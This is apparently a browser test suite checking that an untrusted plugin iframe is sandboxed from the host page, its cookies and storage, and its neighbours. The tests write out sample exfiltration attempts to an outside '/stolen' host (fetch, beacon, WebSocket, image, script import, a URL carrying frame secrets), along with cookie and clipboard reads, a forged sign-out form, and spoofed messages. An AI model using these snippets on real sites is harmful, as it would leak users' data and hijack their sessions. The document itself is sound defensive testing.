import assert from "node:assert/strict";
import type { Frame, Page } from "playwright-core";
import { browserTest, type Visitors } from "core/testing/browser.ts";
import { until } from "core/testing/until.ts";
import { frameHtml, type SampleFrames, serveSampleFrames, type Shown } from "edge/samples/sample_frames.tsx";

// What a frame of a stranger tries, in a real browser. The debugger runs each try inside the frame, with a hand's
// permission: more than a frame has by itself.

const PLAIN = `
  import { openFrame } from "./carillon.v1.js";
  const frame = await openFrame();
  let evaluated;
  try { evaluated = eval("1") } catch ({ name }) { evaluated = name }
  Object.assign(globalThis, { frame, evaluated });
  frame.ready();`;

/** Two frames: a stranger whose script is given, and a neighbour that does nothing wrong. */
function beside(script: string): Shown {
  return {
    files: {
      "stranger.html": frameHtml("stranger.js", "<p>Stranger</p>"),
      "stranger.js": script,
      "neighbour.html": frameHtml("neighbour.js", "<p>Neighbour</p>"),
      "neighbour.js": PLAIN,
      "second.html": frameHtml("neighbour.js", "<p>Second page</p>"),
    },
    shows: [
      { frame: "stranger", title: "Stranger", data: { secret: "of the stranger" } },
      { frame: "neighbour", title: "Neighbour", data: { secret: "of the neighbour" } },
    ],
  };
}

async function visit(browser: Visitors, site: SampleFrames): Promise<{ page: Page; stranger: Frame }> {
  const { page } = await browser.visit();
  await page.goto(site.address);
  await page.waitForSelector("[data-frame=ready] iframe[title=Neighbour]");
  return { page, stranger: frameOf(page, "stranger") };
}

function frameOf(page: Page, name: string): Frame {
  return page.frames().find((frame) => frame.url().endsWith(`/${name}.html`))!;
}

/** The name of the error that a try ends with, or what it came to. */
function attempt(frame: Frame, script: string): Promise<unknown> {
  return frame.evaluate(
    `(async () => { try { return await (async () => ${script})() } catch (error) { return error.name } })()`,
  );
}

browserTest(
  "a stranger's frame reaches nothing of the site, of its reader or of other frames",
  async (browser, t) => {
    await using site = await serveSampleFrames(beside(PLAIN));
    const { page, stranger } = await visit(browser, site);
    const denied: Record<string, string> = {
      "the page's document": "parent.parent.document.title",
      "the document around it": "parent.document.title",
      "a neighbour's document": "parent.parent.frames[1].frames[0].document.title",
      "cookies": "document.cookie",
      "storage": "localStorage.length",
      "the storage of a tab": "sessionStorage.length",
      "a database":
        "new Promise((yes, no) => { const open = indexedDB.open('x'); open.onerror = () => no(open.error); open.onsuccess = yes })",
      "caches": "caches.keys()",
      "a service worker": "navigator.serviceWorker.register('./stranger.js')",
      "the page's address, to change it": "parent.parent.location.href = '/other'",
      "the top, to go elsewhere": "top.location.assign('/other')",
      "a neighbour, to send it elsewhere":
        "parent.parent.frames[1].frames[0].location.replace('about:blank')",
      "a script worked out from text": "evaluated",
      "the clipboard": "navigator.clipboard.readText()",
      "where the reader is":
        "new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, ({ code }) => no({ name: `denied ${code}` })))",
      "the camera": "document.featurePolicy.allowsFeature('camera') ? 'allowed' : 'none'",
      "the whole screen": "document.documentElement.requestFullscreen()",
    };
    for (const [what, script] of Object.entries(denied)) {
      await t.step(what, async () => {
        const answer = await attempt(stranger, `{ return ${script} }`);
        assert.match(String(answer), /^(SecurityError|NotAllowedError|EvalError|TypeError|denied 1|none)$/);
      });
    }
    await t.step("popups do not open", async () => {
      assert.equal(await attempt(stranger, `{ return window.open("/other") === null }`), true);
      await stranger.evaluate(
        `(() => { const link = document.createElement("a"); link.href = "/other"; link.target = "_blank"; document.body.append(link); link.click() })()`,
      );
      assert.equal(page.context().pages().length, 1);
    });
    await t.step("dialogs do not show", async () => {
      let shown = 0;
      page.on("dialog", (dialog) => (shown++, dialog.dismiss()));
      await stranger.evaluate(`{ for (let i = 0; i < 50; i++) { alert(i); confirm(i); prompt(i) } print() }`);
      assert.equal(shown, 0);
    });
    await t.step("nothing is downloaded", async () => {
      let downloads = 0;
      page.on("download", () => downloads++);
      await stranger.evaluate(
        `(() => { const link = document.createElement("a"); link.href = "data:application/octet-stream,x"; link.download = "x.exe"; document.body.append(link); link.click() })()`,
      );
      await page.evaluate("new Promise((done) => setTimeout(done, 200))");
      assert.equal(downloads, 0);
    });
    await t.step("the page still is where it was", () => assert.equal(page.url(), site.address));
  },
);

browserTest("a stranger's frame sends nothing away and carries no cookie anywhere", async (browser, t) => {
  await using site = await serveSampleFrames(beside(PLAIN));
  const { page, stranger } = await visit(browser, site);
  const own = new URL(site.address).origin;
  const outside = `http://${site.outside}`;
  site.came.length = 0;
  const tries: Record<string, string> = {
    "a request to the site with credentials": `fetch("${own}/other", { credentials: "include" })`,
    "an action without its page":
      `fetch("${own}/plugins/sample/actions/vote", { method: "POST", credentials: "include", mode: "no-cors", body: "given={}" })`,
    "a request elsewhere": `fetch("${outside}/stolen")`,
    "a beacon": `navigator.sendBeacon("${outside}/stolen", "x")`,
    "a socket":
      `new Promise((yes, no) => { const socket = new WebSocket("ws://${site.outside}/stolen"); socket.onopen = yes; socket.onerror = no })`,
    "a picture":
      `new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = "${outside}/stolen.gif" })`,
    "a style":
      `new Promise((yes, no) => { const link = document.createElement("link"); link.rel = "stylesheet"; link.onload = yes; link.onerror = no; link.href = "${outside}/stolen.css"; document.head.append(link) })`,
    "a script": `import("${outside}/stolen.js")`,
    "a picture of the site":
      `new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = "${own}/learn/x/y/seen.gif" })`,
    "a frame inside":
      `new Promise((yes) => { const frame = document.createElement("iframe"); frame.onload = yes; frame.src = "${outside}/stolen.html"; document.body.append(frame) })`,
    "a form":
      `{ const form = document.createElement("form"); form.action = "${own}/sign-out"; form.method = "post"; document.body.append(form); form.submit() }`,
  };
  for (const [what, script] of Object.entries(tries)) {
    await t.step(what, async () => {
      await attempt(stranger, script.startsWith("{") ? script : `{ await ${script} }`);
      assert.deepEqual(site.cameOutside, []);
      assert.deepEqual(site.came, []);
    });
  }
  await t.step("it goes elsewhere with what it was told", async () => {
    await stranger.evaluate(`void (location.href = "${outside}/stolen?" + JSON.stringify(frame.data))`);
    await until(
      "it was refused",
      () => !page.frames().some((frame) => frame.url().endsWith("/stranger.html")),
    );
    assert.deepEqual(site.cameOutside, []);
  });
});

browserTest(
  "a frame may go on to another page of its package, which gets a channel of its own",
  async (browser) => {
    await using site = await serveSampleFrames(beside(PLAIN));
    const { page, stranger } = await visit(browser, site);
    await stranger.evaluate(`void (location.href = "./second.html")`);
    await until("it is there", () => page.frames().some((frame) => frame.url().endsWith("/second.html")));
    await until(
      "it is connected",
      async () =>
        await frameOf(page, "second").evaluate(`globalThis.frame?.data.secret`).catch(() => "") ===
          "of the stranger",
    );
  },
);

browserTest("a frame reaches a host that was granted, without anybody's cookies", async (browser) => {
  await using site = await serveSampleFrames({ ...beside(PLAIN), granted: true });
  const { stranger } = await visit(browser, site);
  assert.equal(
    await stranger.evaluate(`fetch("http://${site.outside}/asked").then((answer) => answer.text())`),
    "hello",
  );
  assert.deepEqual(site.cameOutside.map(({ path, cookie }) => [path, cookie]), [["/asked", null]]);
});

browserTest("what another frame forges is heard by nobody", async (browser) => {
  await using site = await serveSampleFrames(beside(PLAIN));
  const { page, stranger } = await visit(browser, site);
  const neighbour = frameOf(page, "neighbour");
  await stranger.evaluate(`{
    const { port1, port2 } = new MessageChannel();
    globalThis.caught = [];
    port1.onmessage = ({ data }) => caught.push(data);
    port1.postMessage({ say: "open", data: { secret: "forged" }, theme: {}, locale: {} });
    parent.parent.frames[1].frames[0].postMessage("carillon.frame.v1.open", "*", [port2]);
    for (const say of ["ready", "act", "title"]) parent.parent.postMessage({ say, action: "vote", title: "Forged" }, "*");
  }`);
  await neighbour.evaluate(`frame.title("Still here")`);
  await page.waitForSelector("iframe[title='Still here']");
  assert.equal(await neighbour.evaluate("frame.data.secret"), "of the neighbour");
  assert.deepEqual(await stranger.evaluate("caught"), []);
  assert.equal(await page.locator("iframe[title=Forged]").count(), 0);
  assert.deepEqual(site.came.filter(({ method }) => method === "POST"), []);
});

browserTest("rubbish over the channel changes nothing, and no height is too high", async (browser) => {
  const script = `
    const page = parent.parent;
    addEventListener("message", ({ ports: [port] }) => {
      for (const height of [1e9, -5, NaN, Infinity, "9999px", {}]) port.postMessage({ say: "resize", height });
      for (const rubbish of [null, 7, "x", [], { say: "__proto__" }, { say: "act" }, { say: "act", action: "constructor" }]) {
        port.postMessage(rubbish);
      }
      port.postMessage({ say: "title", title: "x".repeat(10_000) });
      port.postMessage({ say: "go", id: 1, path: { toString: () => 1 } === 1 });
      port.postMessage({ say: "ready" });
    });
    page.postMessage("carillon.frame.v1.hello", "*");`;
  await using site = await serveSampleFrames(beside(script));
  const { page } = await visit(browser, site);
  const frame = page.locator(".plugin-frame").first();
  await until("it is ready", async () => await frame.getAttribute("data-frame") === "ready");
  await until(
    "it is as high as it may be",
    async () => Number(await frame.locator("iframe").getAttribute("height")) <= 2_000,
  );
  assert.equal((await frame.locator("iframe").getAttribute("title"))!.length, 120);
  assert.deepEqual(site.came.filter(({ method }) => method === "POST"), []);
});

for (
  const [what, flood] of Object.entries({
    "its channel": `addEventListener("message", ({ ports: [port] }) => {
      const flood = () => { for (let i = 0; i < 1_000; i++) port.postMessage({ say: "resize", height: i }) };
      setInterval(flood, 0);
    });
    parent.parent.postMessage("carillon.frame.v1.hello", "*");`,
    "the page's window":
      `setInterval(() => { for (let i = 0; i < 1_000; i++) parent.parent.postMessage("carillon.frame.v1.hello", "*") }, 0);`,
  })
) {
  browserTest(`a frame that floods ${what} is taken away, the page and the others go on`, async (browser) => {
    await using site = await serveSampleFrames(beside(flood));
    const { page } = await visit(browser, site);
    await page.getByText("“Stranger” was stopped").waitFor();
    assert.equal(await page.locator("iframe").count(), 1);
    assert.equal(page.frames().some((frame) => frame.url().endsWith("/stranger.html")), false);
    await frameOf(page, "neighbour").evaluate(`frame.title("Still here")`);
    await page.waitForSelector("iframe[title='Still here']");
  });
}

browserTest(
  "a frame that takes the keyboard from whoever types gives it back, and is stopped when it goes on",
  async (browser) => {
    const taking = `${PLAIN}
    setInterval(() => {
      window.focus();
      document.body.tabIndex = -1;
      document.body.focus();
    }, 20);
    addEventListener("keydown", ({ key }) => (globalThis.keys ??= []).push(key));`;
    await using site = await serveSampleFrames(beside(taking));
    const { page } = await visit(browser, site);
    await page.evaluate(`document.querySelector("#before").before(document.createElement("textarea"))`);
    const field = page.locator("textarea");
    for (let times = 0; times < 20 && await page.locator("iframe").count() === 2; times++) {
      await field.click();
      await page.keyboard.press("a");
    }
    await page.getByText("“Stranger” was stopped").waitFor();
    await field.focus();
    await page.keyboard.type("my own words");
    assert.match(await field.inputValue(), /my own words$/);
  },
);

browserTest("a frame that never lets go of its thread does not stop the page", async (browser) => {
  await using site = await serveSampleFrames(beside("for (;;);"));
  const { page } = await browser.visit();
  await page.goto(site.address, { waitUntil: "commit" });
  await page.waitForSelector(".plugin-frame >> nth=0");
  const begun = performance.now();
  for (let times = 0; times < 20; times++) {
    await page.evaluate("new Promise((done) => requestAnimationFrame(done))");
  }
  assert.ok(performance.now() - begun < 5_000, `${performance.now() - begun} ms`);
  await page.locator("#after").click();
  await page.waitForURL("**/other");
});
